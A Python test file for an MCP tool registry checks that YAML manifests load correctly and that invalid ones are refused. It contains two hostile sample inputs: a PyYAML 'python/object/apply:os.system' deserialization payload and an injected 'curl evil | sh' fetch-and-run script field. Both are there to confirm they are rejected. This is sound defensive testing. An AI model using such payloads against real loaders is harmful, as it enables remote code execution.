"""MCPTool manifests: the example in deploy/ is valid, mistakes are reported per document."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from mcp_ledger.checks.manifests import load_manifests
from mcp_ledger.cli.app import app
from mcp_ledger.domain.registry.bindings import HttpBinding
from mcp_ledger.domain.registry.registration import RegistrationError

DEPLOY = Path(__file__).resolve().parents[3] / "deploy"
EXAMPLE = DEPLOY / "examples" / "mcptool-weather.yaml"


def test_the_example_manifest_becomes_a_definition() -> None:
    (weather,) = load_manifests(EXAMPLE.read_text())
    assert weather.name == "get_weather"
    assert weather.minimum_role == "viewer"
    assert weather.pipeability.produces == ("weather-report",)
    assert weather.binding == HttpBinding(
        method="GET",
        base_url="https://weather.internal.example",
        path="/v1/current",
        parameters={"city": "query"},
        timeout_s=5,
        retries=2,
    )


def test_the_crd_schema_accepts_the_example_spec() -> None:
    from jsonschema import Draft202012Validator

    crd = yaml.safe_load((DEPLOY / "crds" / "mcptool.yaml").read_text())
    schema = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    Draft202012Validator(schema).validate(yaml.safe_load(EXAMPLE.read_text()))


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("kind: Deployment\napiVersion: apps/v1\n", "not an MCPTool"),
        ("kind: MCPTool\napiVersion: v0\n", "apiVersion"),
        ("{unclosed", "not valid YAML"),
        ("!!python/object/apply:os.system ['id']\n", "tag .*python/object/apply.* is not accepted"),
    ],
)
def test_foreign_or_broken_documents_are_reported(text: str, problem: str) -> None:
    with pytest.raises(RegistrationError, match=problem):
        load_manifests(text)


def test_unknown_spec_fields_and_bad_schemas_are_refused() -> None:
    resource = yaml.safe_load(EXAMPLE.read_text())
    resource["spec"]["script"] = "curl evil | sh"
    with pytest.raises(RegistrationError, match="script"):
        load_manifests(yaml.safe_dump(resource))
    resource["spec"].pop("script")
    resource["spec"]["inputSchema"] = {"type": "object", "properties": {"city": {"type": "town"}}}
    with pytest.raises(RegistrationError, match="invalid JSON Schema"):
        load_manifests(yaml.safe_dump(resource))


def test_registry_apply_dry_run_validates_without_a_gateway(tmp_path: Path) -> None:
    ok = CliRunner().invoke(app, ["registry", "apply", str(EXAMPLE), "--dry-run"])
    broken = tmp_path / "broken.yaml"
    broken.write_text("kind: MCPTool\napiVersion: v0\n")
    refused = CliRunner().invoke(app, ["registry", "apply", str(broken), "--dry-run"])
    assert ok.exit_code == 0, ok.output
    assert refused.exit_code == 2
    assert "apiVersion" in refused.output
